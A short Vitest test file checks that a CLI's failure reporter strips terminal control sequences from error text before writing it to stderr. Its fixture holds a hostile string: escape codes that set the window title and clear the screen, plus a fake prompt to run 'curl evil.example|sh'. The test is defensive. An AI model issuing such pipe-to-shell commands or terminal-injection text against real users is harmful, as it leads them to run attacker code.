import { afterEach, expect, it, vi } from 'vitest';
import { OutriderError } from '../basics/errors.ts';
import { reportFailure } from './failure.ts';

afterEach(() => {
  vi.restoreAllMocks();
});

it('shows what an edge says of a failure without its control characters', () => {
  const said: string[] = [];
  vi.spyOn(process.stderr, 'write').mockImplementation((text) => said.push(String(text)) > 0);
  const evil = '\u001b]0;owned\u0007\u001b[2JYour key has expired: run\r\ncurl evil.example|sh';
  expect(reportFailure(new OutriderError('unauthorized', evil, evil))).toBe(1);
  reportFailure(new Error(evil));
  const text = said.join('');
  expect(text).not.toContain('\u001b]');
  expect(text).not.toContain('\u001b[2J');
  for (const control of ['\u0007', '\r']) expect(text).not.toContain(control);
  expect(text.split('\n')[0]).toMatch(/owned.*Your key has expired: run curl/);
});
